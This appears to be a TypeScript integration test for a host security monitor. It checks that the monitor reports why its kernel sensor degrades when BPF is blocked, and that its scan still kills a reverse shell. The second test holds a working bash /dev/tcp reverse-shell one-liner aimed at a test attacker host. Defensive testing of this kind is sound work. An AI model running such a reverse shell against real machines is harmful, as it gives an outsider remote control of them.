// Where BPF is refused to the service: the chain BPF, process connector, scan is walked within a second, each step is told
// with its reason, and a reverse shell still dies. A host of ours has namespaces of its own, where the connector
// answers nobody: that it hears where it may is test/binary/connector.test.ts.
import { afterAll, beforeAll, describe, expect, setDefaultTimeout, test } from "bun:test";
import { z } from "zod";
import { answers } from "./attacks.ts";
import { alerts, copyRelease, lastWords, mustInstall, showAlert, waitUntil } from "./product.ts";
import { bootHost, type Host } from "./testhost.ts";

setDefaultTimeout(120_000);
const DROP_IN = "/etc/systemd/system/algo-monitor.service.d";
const PORT = 4_300;
const statusSchema = z.looseObject({
  sensor: z.looseObject({ state: z.string(), reason: z.string().optional() }),
  kernel: z.looseObject({ watches: z.boolean() }),
  degradations: z.array(z.looseObject({ part: z.string(), reason: z.string() })),
});
const BOTH_STEPS = /Operation not permitted.*the process connector: it answers in the initial network namespace only/;

describe("without BPF", () => {
  let host: Host;
  beforeAll(async () => {
    host = await bootHost();
    await host.must(`mkdir -p ${DROP_IN}; printf '[Service]\\nSystemCallFilter=~bpf\\n' >${DROP_IN}/no-bpf.conf`);
    await copyRelease(host);
    await mustInstall(host);
  });
  afterAll(async () => {
    if (host !== undefined) await host.stop();
  });

  test("status, doctor and the journal name both steps that were refused, and why", async () => {
    const status = async () => statusSchema.parse(JSON.parse(await host.must("algo-monitor status --json")));
    const reason = async () => (await status()).sensor.reason ?? "";
    await waitUntil("the chain is walked", async () => /process connector/.test(await reason()), 10_000);
    expect(await reason()).toMatch(BOTH_STEPS);
    const { sensor, kernel, degradations } = await status();
    expect([sensor.state === "kernel", kernel.watches]).toEqual([false, false]);
    expect(degradations.find(({ part }) => part === "kernel sensor")?.reason).toMatch(BOTH_STEPS);
    expect(await host.must("algo-monitor status")).toMatch(/sensor +does not watch: .*Operation not permitted/);
    const doctor = (await host.exec("algo-monitor doctor")).stdout.split("\n");
    expect(doctor.find((line) => /kernel sensor/.test(line))).toMatch(BOTH_STEPS);
    expect(await host.must("journalctl -u algo-monitor --no-pager")).toMatch(BOTH_STEPS);
  });

  test("a reverse shell dies by the scan", async () => {
    host.attacker.order({ do: "listen", port: PORT, transport: "tcp" });
    await host.start("shell", `exec bash -c 'sh <>/dev/tcp/${host.attacker.address}/${PORT} >&0 2>&1'`);
    const killed = async () => (await alerts(host)).find(({ rule }) => rule.name === "reverse_shell");
    await waitUntil("the kill", async () => (await killed()) !== undefined, 15_000);
    const alert = await killed();
    expect(alert === undefined ? "" : await showAlert(host, alert.id), await lastWords(host)).toMatch(/killed/i);
    expect(await answers(host, PORT, "after", false)).toBe(false);
  });
});
